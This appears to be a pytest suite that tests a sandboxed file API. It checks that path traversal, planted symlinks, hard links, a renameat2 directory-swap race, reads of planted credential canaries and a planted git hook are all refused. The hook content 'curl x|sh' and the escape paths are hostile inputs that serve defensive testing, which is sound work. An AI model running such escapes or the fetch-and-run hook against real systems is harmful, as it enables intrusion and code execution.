"""File-API escape attempts through a tenant socket. Each one is the attack
itself; every one must fail, and nothing outside the roots may be read,
written or even confirmed to exist."""

from __future__ import annotations

import asyncio
import hashlib
import os
import subprocess
import textwrap
import time
from pathlib import Path
from typing import Any

import grpc
import pytest
from fs_endpoint import FsEndpoint, failure, refusal
from hostcap_proto.errors import from_rpc_error
from hostcap_proto.v1 import fs_pb2
from support.identity import as_user

needs_root = pytest.mark.skipif(
    os.getuid() != 0, reason="needs root (links and mounts made by the test)"
)
SECRET = b"OUTSIDE-SECRET-CANARY\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def planted_outside(endpoint: FsEndpoint) -> Path:
    """An outside directory with a file the tenant's uid may read by DAC."""
    outside = endpoint.outside_dir()
    (outside / "file").write_bytes(SECRET)
    (outside / "file").chmod(0o644)
    (outside / "outside-only").write_bytes(SECRET)
    return outside


async def every_operation_refused(stub: Any, path: str) -> set[str]:
    """The reasons read, list, stat and write of `path` (and beneath it) end with."""
    calls = [
        stub.ReadFile(fs_pb2.ReadFileRequest(path=path)),
        stub.ReadFile(fs_pb2.ReadFileRequest(path=f"{path}/file")),
        stub.ListDirectory(fs_pb2.ListDirectoryRequest(path=path)),
        stub.Stat(fs_pb2.StatRequest(path=path)),
        stub.WriteFile(fs_pb2.WriteFileRequest(path=path, data=b"pwned")),
        stub.WriteFile(
            fs_pb2.WriteFileRequest(path=f"{path}/planted", data=b"pwned", create_parents=True)
        ),
    ]
    return {(await refusal(call)).reason for call in calls}


# --- lexical escapes ---------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "/proc/self/root/etc/passwd",
        "./../../../../../../etc/shadow",
    ],
)
async def test_paths_outside_the_roots_are_refused(
    endpoint: FsEndpoint, stub: Any, path: str
) -> None:
    found = await refusal(stub.ReadFile(fs_pb2.ReadFileRequest(path=path)))
    assert found.reason == "PATH_ESCAPES_ROOT"
    assert (
        "passwd" not in found.message
        and "shadow" not in found.message
        and "root:" not in found.message
    )
    assert (
        await refusal(stub.WriteFile(fs_pb2.WriteFileRequest(path=path, data=b"x")))
    ).reason == "PATH_ESCAPES_ROOT"


async def test_an_escape_does_not_tell_whether_its_target_exists(
    endpoint: FsEndpoint, stub: Any
) -> None:
    exists = await refusal(stub.Stat(fs_pb2.StatRequest(path="../../../../etc/passwd")))
    missing = await refusal(stub.Stat(fs_pb2.StatRequest(path="../../../../etc/no-such-file-here")))
    assert (exists.reason, exists.message) == (missing.reason, missing.message)


# --- planted symlinks ------------------------------------------------------


@pytest.mark.parametrize(
    "target", ["/etc/shadow", "/", "other-tenant-root", "outside-dir", "relative-climb"]
)
async def test_a_symlink_planted_by_the_tenant_leads_nowhere(
    endpoint: FsEndpoint, stub: Any, target: str
) -> None:
    base = endpoint.scratch()
    outside = planted_outside(endpoint)
    other_root = endpoint.outside_dir()
    (other_root / "file").write_bytes(SECRET)
    os.chown(other_root, endpoint.uid, endpoint.gid)  # same uid: only the jail separates them
    destination = {
        "other-tenant-root": str(other_root),
        "outside-dir": str(outside),
        "relative-climb": "../" * 12 + str(outside).lstrip("/"),
    }.get(target, target)
    await endpoint.plant_symlink(destination, f"{base}/link")
    assert (endpoint.workspace / base / "link").is_symlink()
    assert await every_operation_refused(stub, f"{base}/link") == {"SYMLINK_REFUSED"}
    listing = await stub.ListDirectory(fs_pb2.ListDirectoryRequest(path=base))
    assert [(e.name, e.type, e.target) for e in listing.entries] == [("link", fs_pb2.SYMLINK, "")]
    assert sorted(os.listdir(outside)) == ["file", "outside-only"] and sorted(
        os.listdir(other_root)
    ) == ["file"]
    assert (outside / "file").read_bytes() == SECRET


async def test_a_symlink_refusal_does_not_tell_whether_the_target_exists(
    endpoint: FsEndpoint, stub: Any
) -> None:
    base = endpoint.scratch()
    await endpoint.plant_symlink("/etc/passwd", f"{base}/exists")
    await endpoint.plant_symlink("/etc/no-such-file-here", f"{base}/missing")
    exists = await refusal(stub.ReadFile(fs_pb2.ReadFileRequest(path=f"{base}/exists")))
    missing = await refusal(stub.ReadFile(fs_pb2.ReadFileRequest(path=f"{base}/missing")))
    assert (exists.reason, exists.message) == (missing.reason, missing.message)
    assert exists.reason == "SYMLINK_REFUSED"


async def test_proc_self_root_and_magic_links_lead_nowhere(endpoint: FsEndpoint, stub: Any) -> None:
    base = endpoint.scratch()
    await endpoint.plant_symlink("/proc/self/root", f"{base}/procroot")
    await endpoint.plant_symlink("../" * 12 + "proc/self/root", f"{base}/climb")
    await endpoint.plant_symlink("/proc/self/fd/0", f"{base}/fd")
    for path in (f"{base}/procroot/etc/passwd", f"{base}/climb/etc/passwd", f"{base}/fd"):
        found = await refusal(stub.ReadFile(fs_pb2.ReadFileRequest(path=path)))
        assert found.reason == "SYMLINK_REFUSED", path
    assert (
        await refusal(stub.ReadFile(fs_pb2.ReadFileRequest(path="/proc/self/root/etc/passwd")))
    ).reason == ("PATH_ESCAPES_ROOT")


# --- the rename race ---------------------------------------------------------

#: Run as the tenant: swap race/dir between a real directory and a symlink to
#: the outside directory, atomically (RENAME_EXCHANGE), as fast as it can.
SWAPPER = textwrap.dedent(
    """
    import ctypes, os, sys, time
    libc = ctypes.CDLL(None, use_errno=True)
    base, seconds = sys.argv[1], float(sys.argv[2])
    a, b = os.path.join(base, "dir").encode(), os.path.join(base, "other").encode()
    swaps, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        if libc.renameat2(-100, a, -100, b, 2) != 0:
            sys.exit("renameat2: errno %d" % ctypes.get_errno())
        swaps += 1
    print(swaps)
    """
)


async def test_swapping_a_directory_for_a_symlink_during_reads_never_leaks(
    endpoint: FsEndpoint, stub: Any
) -> None:
    base = endpoint.scratch()
    outside = planted_outside(endpoint)
    race = endpoint.workspace / base
    (race / "dir").mkdir()
    (race / "dir" / "file").write_bytes(b"inside\n")
    os.symlink(str(outside), race / "other")
    for path in (race / "dir", race / "dir" / "file", race / "other"):
        os.lchown(path, endpoint.uid, endpoint.gid)
    seconds = 3.0
    swapper = subprocess.Popen(
        as_user(
            endpoint.uid,
            endpoint.gid,
            ["/usr/bin/python3", "-I", "-c", SWAPPER, str(race), str(seconds)],
        ),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    outcomes: dict[str, int] = {}
    details: dict[str, str] = {}
    leaked: list[str] = []
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            calls = {
                "read": stub.ReadFile(fs_pb2.ReadFileRequest(path=f"{base}/dir/file")),
                "list": stub.ListDirectory(fs_pb2.ListDirectoryRequest(path=f"{base}/dir")),
                "stat": stub.Stat(fs_pb2.StatRequest(path=f"{base}/dir/outside-only")),
                "write": stub.WriteFile(
                    fs_pb2.WriteFileRequest(path=f"{base}/dir/new.txt", data=b"w")
                ),
            }
            results = await asyncio.gather(*calls.values(), return_exceptions=True)
            for name, result in zip(calls, results, strict=True):
                if isinstance(result, grpc.aio.AioRpcError):
                    found = from_rpc_error(result)  # type: ignore[arg-type]
                    outcome = found.reason if found is not None else result.code().name
                    details.setdefault(f"{name}:{outcome}", str(result.details()))
                elif isinstance(result, BaseException):
                    raise result
                else:
                    outcome = "ok"
                    if name == "read" and result.data != b"inside\n":
                        leaked.append(f"read returned {result.data[:40]!r}")
                    if name == "list" and any(e.name == "outside-only" for e in result.entries):
                        leaked.append("listing showed the outside directory")
                    if name == "stat":
                        leaked.append("stat reached the outside directory")
                outcomes[f"{name}:{outcome}"] = outcomes.get(f"{name}:{outcome}", 0) + 1
    finally:
        out, err = swapper.communicate(timeout=30)
    assert swapper.returncode == 0, err
    assert int(out) > 0
    assert leaked == []
    assert outcomes.get("read:ok", 0) + outcomes.get("read:SYMLINK_REFUSED", 0) > 0
    allowed = {"ok", "SYMLINK_REFUSED", "NOT_FOUND", "CONFLICT"}
    unexpected = {key: details.get(key) for key in outcomes if key.split(":")[1] not in allowed}
    assert unexpected == {}, outcomes
    assert sorted(os.listdir(outside)) == ["file", "outside-only"]
    assert (outside / "file").read_bytes() == SECRET


# --- hard links, tiers, secrets, protected paths -------------------------------


@needs_root
async def test_a_hard_link_to_a_file_outside_is_not_written_through(
    endpoint: FsEndpoint, stub: Any
) -> None:
    base = endpoint.scratch()
    outside = planted_outside(endpoint)
    os.link(outside / "file", endpoint.workspace / base / "hardlink")
    found = await refusal(
        stub.WriteFile(fs_pb2.WriteFileRequest(path=f"{base}/hardlink", data=b"pwned"))
    )
    assert found.reason == "PATH_ESCAPES_ROOT"
    assert (outside / "file").read_bytes() == SECRET
    assert (await stub.Stat(fs_pb2.StatRequest(path=f"{base}/hardlink"))).writable is False


async def test_a_read_only_root_refuses_every_write(endpoint: FsEndpoint, stub: Any) -> None:
    # owned by the tenant, so the kernel alone would allow it: the tier is what refuses
    os.chown(endpoint.reference, endpoint.uid, endpoint.gid)
    (endpoint.reference / "doc.md").write_text("reference\n")
    before = sorted(os.listdir(endpoint.reference))
    for request in (
        fs_pb2.WriteFileRequest(path=str(endpoint.reference / "doc.md"), data=b"changed"),
        fs_pb2.WriteFileRequest(path=str(endpoint.reference / "new.md"), data=b"new"),
        fs_pb2.WriteFileRequest(
            path=str(endpoint.reference / "a" / "b.md"), data=b"new", create_parents=True
        ),
        fs_pb2.WriteFileRequest(path=f"{endpoint.workspace}/../reference/doc.md", data=b"changed"),
    ):
        assert (await refusal(stub.WriteFile(request))).reason == "READ_ONLY_TIER"
    assert sorted(os.listdir(endpoint.reference)) == before
    assert (endpoint.reference / "doc.md").read_text() == "reference\n"


async def test_credentials_are_not_read_through_the_file_api(
    endpoint: FsEndpoint, stub: Any
) -> None:
    base = endpoint.scratch()
    (endpoint.workspace / base / ".env").write_text("API_TOKEN=sk-live-canary\n")
    (endpoint.workspace / base / ".ssh").mkdir()
    (endpoint.workspace / base / ".ssh" / "id_rsa").write_text(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    )
    (endpoint.workspace / base / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    await endpoint.plant_symlink(".env", f"{base}/innocent.txt")
    for path in (".env", "id_rsa", ".ssh/id_rsa", "innocent.txt", ".ENV"):
        found = await refusal(stub.ReadFile(fs_pb2.ReadFileRequest(path=f"{base}/{path}")))
        assert found.reason == "SECRET_PATH", path
        assert "canary" not in found.message and "PRIVATE" not in found.message
    assert (
        await refusal(stub.ListDirectory(fs_pb2.ListDirectoryRequest(path=f"{base}/.ssh")))
    ).reason == "SECRET_PATH"


async def test_git_hooks_cannot_be_planted(endpoint: FsEndpoint, stub: Any) -> None:
    hooks = endpoint.workspace / ".git" / "hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    for path in (endpoint.workspace / ".git", hooks):
        os.chown(path, endpoint.uid, endpoint.gid)
    base = endpoint.scratch()
    await endpoint.plant_symlink("../.git/hooks", f"{base}/hooks")
    for path in (".git/hooks/pre-commit", f"{base}/hooks/pre-commit", ".git/config"):
        found = await refusal(
            stub.WriteFile(fs_pb2.WriteFileRequest(path=path, data=b"#!/bin/sh\ncurl x|sh\n"))
        )
        assert found.reason == "PROTECTED_PATH", path
    assert not (hooks / "pre-commit").exists()


# --- content round trips -----------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [b"", os.urandom(10 << 20), bytes(range(256)) * 64],
    ids=["empty", "10MiB-random", "every-byte-value"],
)
async def test_content_round_trips_exactly(endpoint: FsEndpoint, stub: Any, content: bytes) -> None:
    base = endpoint.scratch()
    written = await stub.WriteFile(fs_pb2.WriteFileRequest(path=f"{base}/blob", data=content))
    assert (written.size, written.sha256) == (len(content), sha(content))
    read = await stub.ReadFile(fs_pb2.ReadFileRequest(path=f"{base}/blob"))
    assert read.data == content
    assert read.sha256 == read.file_sha256 == sha(content) and read.truncated is False
    assert read.is_binary is (content != b"")
    assert sha((endpoint.workspace / base / "blob").read_bytes()) == sha(content)


# --- a write that fails midway -------------------------------------------------


def names(directory: Path) -> list[str]:
    return sorted(os.listdir(directory))


@needs_root
async def test_a_disk_full_mid_write_leaves_the_original(endpoint: FsEndpoint, stub: Any) -> None:
    base = endpoint.scratch()
    small = endpoint.workspace / base / "small"
    small.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(small)], check=True)
    try:
        os.chown(small, endpoint.uid, endpoint.gid)
        original = os.urandom(64 << 10)
        await stub.WriteFile(fs_pb2.WriteFileRequest(path=f"{base}/small/data.bin", data=original))
        free = os.statvfs(small).f_bfree
        status, found = await failure(
            stub.WriteFile(
                fs_pb2.WriteFileRequest(path=f"{base}/small/data.bin", data=os.urandom(2 << 20))
            )
        )
        # a full volume (or disk budget) is a resource exhausted, not a bad request
        assert (found.reason, status) == ("QUOTA_EXCEEDED", grpc.StatusCode.RESOURCE_EXHAUSTED)
        assert (small / "data.bin").read_bytes() == original
        assert names(small) == ["data.bin"] and os.statvfs(small).f_bfree == free
    finally:
        subprocess.run(["umount", "--lazy", str(small)], check=True)


@needs_root
async def test_a_file_size_limit_mid_write_leaves_the_original(
    endpoint: FsEndpoint, stub: Any
) -> None:
    base = endpoint.scratch()
    original = os.urandom(8 << 10)
    await stub.WriteFile(fs_pb2.WriteFileRequest(path=f"{base}/data.bin", data=original))
    pid = str(endpoint.worker_pid())
    # soft limit only, as the tenant's uid: lifted again below
    endpoint.as_tenant(["prlimit", f"--pid={pid}", f"--fsize={64 << 10}:unlimited"])
    try:
        found = await refusal(
            stub.WriteFile(
                fs_pb2.WriteFileRequest(path=f"{base}/data.bin", data=os.urandom(1 << 20))
            )
        )
        assert found.reason == "TOO_LARGE"
    finally:
        endpoint.as_tenant(["prlimit", f"--pid={pid}", "--fsize=unlimited:unlimited"])
    assert (endpoint.workspace / base / "data.bin").read_bytes() == original
    assert names(endpoint.workspace / base) == ["data.bin"]
